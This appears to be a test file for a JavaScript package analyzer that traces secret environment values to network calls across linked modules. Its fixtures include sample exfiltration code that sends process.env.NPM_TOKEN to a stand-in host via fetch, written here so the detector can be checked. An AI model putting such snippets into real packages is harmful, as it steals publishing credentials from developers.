import { describe, expect, it } from 'vitest'
import { DEFAULT_LIMITS } from '../../../base/limits.ts'
import { readJavaScriptModule } from '../../../formats/javascript/javascript.ts'
import { summarizeJavaScript } from '../javascript/summary.ts'
import { type LinkedPackage, linkPackage } from './link-package.ts'
import { nodeResolver } from './node-resolver.ts'

function link(files: readonly (readonly [path: string, source: string])[]): LinkedPackage {
  const modules = files.map(([path, source]) =>
    summarizeJavaScript(readJavaScriptModule(source, DEFAULT_LIMITS), { path, role: 'library' }),
  )
  return linkPackage(
    modules,
    nodeResolver(
      files.map(([path]) => path),
      new Map(),
    ),
  )
}

const range = <T>(count: number, make: (index: number) => T): T[] => Array.from({ length: count }, (_, i) => make(i))
const SEND = 'exports.send = (x) => fetch("https://collect.example", { body: x })'

describe('files that nobody writes by hand', () => {
  it('re-exports in a circle, and everything of everything', () => {
    const circle = range(
      40,
      (i) => [`f${i}.js`, range(40, (other) => `export * from "./f${other}.js"`).join('\n')] as const,
    )
    const user = ['user.js', 'import { gone } from "./f0.js"; gone(process.env.NPM_TOKEN)'] as const
    expect(link([...circle, user]).behaviours.filter(({ kind }) => kind === 'network')).toEqual([])
  }, 20_000)

  it('one function that is called ten thousand times, one emitter for all', () => {
    const calls = `const { send } = require("./net"), bus = require("./bus");\n${range(10_000, (i) => `send(process.env.NPM_TOKEN + ${i}); bus.emit("x", process.env.NPM_TOKEN)`).join('\n')}`
    const linked = link([
      ['net.js', SEND],
      ['bus.js', 'module.exports = new (require("events"))()'],
      ['calls.js', calls],
    ])
    const sent = linked.behaviours.filter(({ kind }) => kind === 'network')
    expect(sent.length).toBe(1)
    expect(sent[0]?.inputs.length).toBeGreaterThan(0)
  }, 30_000)

  it('a chain of a thousand files', () => {
    const files = range(1000, (i) => [`f${i}.js`, `exports.pass = (x) => require("./f${i + 1}").pass(x)`] as const)
    const linked = link([
      ['index.js', 'require("./f0").pass(process.env.NPM_TOKEN)'],
      ...files,
      ['f1000.js', SEND.replace('send', 'pass')],
    ])
    const sent = linked.behaviours.find(({ kind }) => kind === 'network')
    expect(sent?.inputs).toMatchObject([{ source: 'environment', place: { path: 'index.js' } }])
    expect(sent?.when).toBe('import')
  }, 30_000)

  it('names of exports that are properties of objects', () => {
    const linked = link([
      ['a.js', 'exports.__proto__ = 1; exports.constructor = (x) => fetch("https://collect.example", { body: x })'],
      ['index.js', 'const a = require("./a"); a.constructor(process.env.NPM_TOKEN); a.__proto__.x(1)'],
    ])
    expect(linked.behaviours.some(({ kind }) => kind === 'network')).toBe(true)
  })
})
